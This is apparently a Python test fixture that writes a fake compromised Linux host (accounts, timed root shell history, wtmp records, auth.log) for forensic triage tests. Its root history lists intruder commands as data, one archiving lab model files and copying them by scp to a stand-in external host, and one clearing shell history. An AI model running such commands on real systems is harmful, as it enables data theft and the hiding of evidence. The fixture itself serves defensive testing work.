"""A small compromised Linux host as a folder tree, for triage archives in tests: accounts, a
timed root shell history naming the lab's files, wtmp logins and an auth.log line."""

from __future__ import annotations

import struct
from datetime import UTC, datetime, timedelta
from pathlib import Path

HOSTNAME = "gpu-07"
INTRUDER_IP = "203.0.113.50"
COMMANDS = (
    "id",
    "tar czf /tmp/.c/m.tgz /lab/models/protein-lm",
    "scp /tmp/.c/m.tgz u@198.51.100.9:/srv/",
    "history -c",
)


def commands(lab: str = "/lab") -> tuple[str, ...]:
    """The root history's commands, naming the lab's files under ``lab``."""
    return tuple(c.replace("/lab/", lab.rstrip("/") + "/") for c in COMMANDS)


def _utmp(kind: int, pid: int, line: str, user: str, host: str, when: datetime) -> bytes:
    """One 384-byte glibc utmp record."""
    seconds = int(when.timestamp())
    address = bytes(int(p) for p in host.split(".")) if host.count(".") == 3 else b"\0" * 4
    return struct.pack(
        "<hxxi32s4s32s256shhiii16s20s",
        kind,
        pid,
        line.encode(),
        line[-4:].encode(),
        user.encode(),
        host.encode(),
        0,
        0,
        0,
        seconds,
        0,
        address.ljust(16, b"\0"),
        b"",
    )


def build_host(root: Path, now: datetime, lab: str = "/lab") -> datetime:
    """Write the tree; returns the time of the intruder's login (an hour before ``now``)."""
    login = (now - timedelta(hours=1)).replace(microsecond=0)
    etc = root / "etc"
    etc.mkdir(parents=True)
    (etc / "hostname").write_text(HOSTNAME + "\n")
    (etc / "os-release").write_text('NAME="Debian GNU/Linux"\nVERSION_ID="12"\n')
    (etc / "passwd").write_text(
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
    )
    (etc / "group").write_text("root:x:0:\nsudo:x:27:alice\n")
    history = [f"#{int((login + timedelta(minutes=5 + i)).timestamp())}\n{c}\n"
               for i, c in enumerate(commands(lab))]  # fmt: skip
    (root / "root").mkdir()
    (root / "root" / ".bash_history").write_text("".join(history))
    (root / "home" / "alice").mkdir(parents=True)
    log = root / "var" / "log"
    log.mkdir(parents=True)
    (log / "wtmp").write_bytes(
        _utmp(7, 4100, "pts/0", "root", INTRUDER_IP, login)
        + _utmp(8, 4100, "pts/0", "", "", login + timedelta(minutes=30))
    )
    stamp = login.astimezone(UTC).strftime("%b %e %H:%M:%S")
    (log / "auth.log").write_text(
        f"{stamp} {HOSTNAME} sshd[4100]: Accepted password for root from {INTRUDER_IP} "
        "port 50022 ssh2\n"
    )
    return login
